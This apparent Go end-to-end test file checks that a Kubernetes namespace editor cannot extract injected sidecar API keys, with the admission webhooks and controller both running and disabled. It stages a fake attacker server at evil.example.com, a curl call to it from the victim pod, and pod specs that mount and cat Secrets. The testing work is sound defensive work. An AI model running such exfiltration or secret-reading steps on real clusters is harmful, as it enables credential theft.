//go:build linux

package e2e

import (
	"fmt"
	"reflect"
	"strings"
	"testing"

	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/apimachinery/pkg/apis/meta/v1/unstructured"

	"remora.dev/remora/apis/v1beta1"
	"remora.dev/remora/test/cluster/pki"
	"remora.dev/remora/test/stage"
)

// What the suite's keys are. No answer to the editor may show one, and no request to his server have one.
const (
	teamKey    = "sk-hostile-of-the-team"
	decoyShown = "c2stZGVjb3k=" // sk-decoy in an answer
	evilHost   = "evil.example.com"
	disabled   = v1beta1.InjectLabel + ": " + v1beta1.InjectDisabled
)

// hostileObjects are there before the editor comes.
const hostileObjects = `
{apiVersion: v1, kind: Secret, metadata: {name: team}, stringData: {apiKey: ` + teamKey + `}}
---
{apiVersion: v1, kind: Secret, metadata: {name: decoy}, stringData: {k: sk-decoy}}
---
{apiVersion: v1, kind: Secret, metadata: {name: mine}, stringData: {apiKey: sk-mine}}
---
{apiVersion: v1, kind: ServiceAccount, metadata: {name: puller}, imagePullSecrets: [{name: remora-sidecar-keys}]}
---
{apiVersion: v1, kind: Secret, type: kubernetes.io/service-account-token, metadata: {name: of-default, annotations: {kubernetes.io/service-account.name: default}}}
---
`

// An editor of a namespace who may not read Secrets tries to get a key out, and once more while every webhook and the controller is
// away. Nothing runs beside this test: for as long, no other pod would start.
func TestANamespaceEditorGetsNoKey(t *testing.T) {
	in, home := injected(t, "e2e-hostile"), labelled(t, "e2e-hostile-home")
	apply(t, hostileObjects+teamProvider, "-n", in)
	apply(t, pod("victim", container("app", idle)), "-n", in)
	e := newEditor(t, in, home)
	attacker := e.raiseServer(t)
	awaitReady(t, in, "pod/victim")
	e.hide(t, teamKey)
	e.export(t, "victim")

	if _, err := e.create(t, hostilePod{spec: hostileVolume("secret: {secretName: team}")}.manifest(""), metav1.DryRunAll); err != nil {
		t.Errorf("who may create pods may mount every other Secret of the namespace, as the README says: %v", err)
	}
	t.Run("WithAllThatIsInstalled", func(t *testing.T) {
		e.pods(t, "", append(hostilePods(), besideASidecar()...))
		t.Run("ByControllers", func(t *testing.T) { e.controllers(t, "made", "") })
		e.pods(t, disabled, withoutASidecar())
		e.mirror(t)
		e.copies(t, "victim")
		e.running(t, "victim")
		e.beyond(t, "team")
		e.providers(t)
		e.exported(t, "victim")
		e.misled(t, attacker)
		e.written(t)
	})
	published(t, e.attempts, e.shown)
	e.attempts, e.shown = 0, 0

	t.Cleanup(func() {
		scale(t, v1beta1.WebhookName, "2")
		scale(t, v1beta1.ControllerName, "2")
		settled(t)
	})
	t.Run("WithEveryWebhookAndTheControllerDown", func(t *testing.T) {
		scale(t, v1beta1.ControllerName, "0")
		scale(t, v1beta1.WebhookName, "0")
		e.hide(t, teamKey)
		eventually(t, "nobody answers", func() (string, bool) {
			_, err := e.create(t, hostilePod{}.manifest(""), metav1.DryRunAll)
			return fmt.Sprint(err), err != nil && strings.Contains(err.Error(), "failed calling webhook")
		})
		e.pods(t, disabled, append(hostilePods(), withoutASidecar()...))
		for _, p := range append(besideASidecar(), hostilePod{name: "a sidecar written by hand, in a pod that gets one", spec: handmadePod}) {
			t.Run(p.name, func(t *testing.T) {
				e.attempt(t)
				_, err := e.create(t, p.manifest(""))
				denied(t, err, "failed calling webhook", v1beta1.WebhookName)
			})
		}
		t.Run("ByControllers", func(t *testing.T) {
			e.controllers(t, "made-again", disabled)
		})
		e.mirror(t)
		e.running(t, "victim")
		e.beyond(t, "team")
		e.unjudged(t)
		e.written(t)
	})
	published(t, e.attempts, e.shown) // while every webhook and the controller was away
	e.received(t, attacker)
}

// raiseServer makes the editor a server that is whatever host he wants, by an authority of his own, and a pod to send from.
func (e *editor) raiseServer(t *testing.T) stage.Provider {
	t.Helper()
	theirs, err := pki.NewAuthority("the editor's")
	if err != nil {
		t.Fatal(err)
	}
	attacker := stage.Provider{Namespace: e.in, Name: "attacker", Keys: map[string]string{example: "", moonshot: "", evilHost: "", "$(ADDRESS)": ""}} // to who calls it by its address, too
	manifest, err := attacker.Manifest(theirs)
	if err != nil {
		t.Fatal(err)
	}
	eventually(t, "the editor has his rights", func() (string, bool) { // of which the authorizer hears by a watch
		_, err := e.create(t, "{apiVersion: v1, kind: ConfigMap, metadata: {name: first}}", metav1.DryRunAll)
		return fmt.Sprint(err), err == nil
	})
	manifest = strings.Replace(manifest, "        args:", "        env: [{name: ADDRESS, valueFrom: {fieldRef: {fieldPath: status.podIP}}}]\n        args:", 1)
	if out, err := e.kubectlWith(t, manifest, "create", "-f", "-"); err != nil { // apply would read the Secret first
		t.Fatal(out, err)
	}
	kubectl(t, "-n", e.in, "rollout", "status", "deployment/attacker", "--timeout="+patience.String())
	return attacker
}

// received looks at what the editor's server got: nothing with a key, and that it would have been kept.
func (e *editor) received(t *testing.T, attacker stage.Provider) {
	t.Helper()
	shell(t, e.in, "pod/victim", `curl --silent --insecure --max-time 60 --connect-to '::attacker:443' https://`+evilHost+`/ --header 'Authorization: Bearer of-nobody' --data '{"messages":[{"role":"user","content":"kept"}]}'`)
	all, err := attacker.Requests(t.Context(), cluster.KubectlWith)
	if err != nil {
		t.Fatal(err)
	}
	kept := false
	for _, r := range all {
		text := fmt.Sprint(r.Header) + string(r.Body)
		kept = kept || strings.Contains(text, "of-nobody")
		for _, h := range e.hidden {
			if strings.Contains(text, h) {
				t.Error("the editor's server has received a key or a token")
			}
		}
	}
	if !kept {
		t.Errorf("it keeps nothing: %d requests", len(all))
	}
}

// controllers has each kind of them make a pod that mounts the keys: it is they that are refused, and say so.
func (e *editor) controllers(t *testing.T, name, marked string) {
	t.Helper()
	template := "{metadata: {labels: {app: " + name + "-it, " + marked + "}}, spec: {containers: [{name: app, image: " + stage.AppImage + ", imagePullPolicy: IfNotPresent, command: [sh, -c, \"cat /a/*; sleep 9999\"], " +
		"volumeMounts: [{name: v, mountPath: /a}]}], volumes: [{name: v, secret: {secretName: remora-sidecar-keys}}]RESTART}}"
	always, never := strings.Replace(template, "RESTART", "", 1), strings.Replace(template, "RESTART", ", restartPolicy: Never", 1)
	selected := "selector: {matchLabels: {app: " + name + "-it}}, template: " + always
	kinds := map[string]string{
		"ReplicaSet":  "apps/v1 {replicas: 1, " + selected + "}",
		"Deployment":  "apps/v1 {" + selected + "}",
		"StatefulSet": "apps/v1 {serviceName: s, " + selected + "}",
		"DaemonSet":   "apps/v1 {" + selected + "}",
		"Job":         "batch/v1 {template: " + never + "}",
		"CronJob":     `batch/v1 {schedule: "* * * * *", jobTemplate: {metadata: {labels: {of: ` + name + `}}, spec: {template: ` + never + "}}}",

		"ReplicationController": "v1 {replicas: 1, selector: {app: " + name + "-it}, template: " + always + "}",
	}
	for kind, text := range kinds {
		version, spec, _ := strings.Cut(text, " ")
		if _, err := e.create(t, fmt.Sprintf("apiVersion: %s\nkind: %s\nmetadata: {name: %s-%s}\nspec: %s", version, kind, name, strings.ToLower(kind), spec)); err != nil {
			t.Fatalf("%s: %v", kind, err)
		}
	}
	// A CronJob would wait for its minute.
	if out, err := e.kubectl(t, "create", "job", name+"-from-cronjob", "--from=cronjob/"+name+"-cronjob"); err != nil {
		t.Fatal(out, err)
	}
	for kind := range kinds {
		t.Run(kind, func(t *testing.T) {
			e.attempt(t)
			prefix := name + "-" + strings.ToLower(kind)
			if kind == "CronJob" {
				prefix = name + "-from-cronjob"
			}
			eventually(t, kind+" is refused its pod", func() (string, bool) {
				events, err := e.client.CoreV1().Events(e.in).List(t.Context(), metav1.ListOptions{FieldSelector: "reason=FailedCreate"})
				if err != nil {
					return err.Error(), false
				}
				for _, event := range events.Items {
					if strings.HasPrefix(event.InvolvedObject.Name, prefix) && strings.Contains(event.Message, "spec.volumes: v refers to Secret") {
						return "", true
					}
				}
				return fmt.Sprint(len(events.Items), " events"), false
			})
		})
	}
	for kind := range kinds {
		kubectl(t, "-n", e.in, "delete", strings.ToLower(kind), name+"-"+strings.ToLower(kind), "--wait=false")
	}
	if pods := kubectl(t, "-n", e.in, "get", "pods", "-o", "name", "-l", "app="+name+"-it"); pods != "" {
		t.Errorf("there are %s", pods)
	}
}

// mirror makes what looks like the copy of a static pod, which gets no sidecar.
func (e *editor) mirror(t *testing.T) {
	t.Helper()
	t.Run("the copy of a static pod with the keys", func(t *testing.T) {
		e.attempt(t)
		_, err := e.create(t, strings.Replace(hostilePod{spec: hostileVolume("secret: {secretName: remora-sidecar-keys}")}.manifest(disabled),
			"metadata: {", "metadata: {annotations: {kubernetes.io/config.mirror: x}, ", 1))
		denied(t, err, "a mirror pod may not reference")
	})
}

// copies takes parts of a sidecar from where they are, into a pod that gets one.
func (e *editor) copies(t *testing.T, pod string) {
	t.Helper()
	t.Run("a sidecar written by hand, in a pod that gets one", func(t *testing.T) {
		e.attempt(t)
		got, err := e.create(t, hostilePod{spec: handmadePod}.manifest(""), metav1.DryRunAll)
		if err != nil {
			t.Fatal(err)
		}
		want, err := e.create(t, hostilePod{}.manifest(""), metav1.DryRunAll)
		if err != nil {
			t.Fatal(err)
		}
		of := func(o *unstructured.Unstructured) any { // the redirection has a volume of the account, whose name is drawn
			all, _, _ := unstructured.NestedSlice(o.Object, "spec", "initContainers")
			return all[1]
		}
		if got, want := of(got), of(want); !reflect.DeepEqual(got, want) {
			t.Errorf("the sidecar is\n%v\nand ought to be\n%v", got, want)
		}
	})
	t.Run("kubectl debug --copy-to", func(t *testing.T) {
		e.attempt(t)
		_, err := e.kubectl(t, "debug", pod, "--copy-to=copied", "--container=app", "--image="+stage.AppImage, "--share-processes", "--profile=baseline", "--", "ls")
		denied(t, err, "spec.shareProcessNamespace")
	})
	t.Run("kubectl debug --copy-to --set-image", func(t *testing.T) {
		e.attempt(t)
		before := e.images(t, pod)
		if out, err := e.kubectl(t, "debug", pod, "--copy-to=copied", "--set-image=remora-sidecar="+stage.AppImage, "--share-processes=false", "--profile=baseline"); err != nil {
			t.Fatal(out, err)
		}
		if after := e.images(t, "copied"); after != before {
			t.Errorf("the copy's images are %s, and ought to be %s", after, before)
		}
		kubectl(t, "-n", e.in, "delete", "pod", "copied", "--wait=false")
	})
}
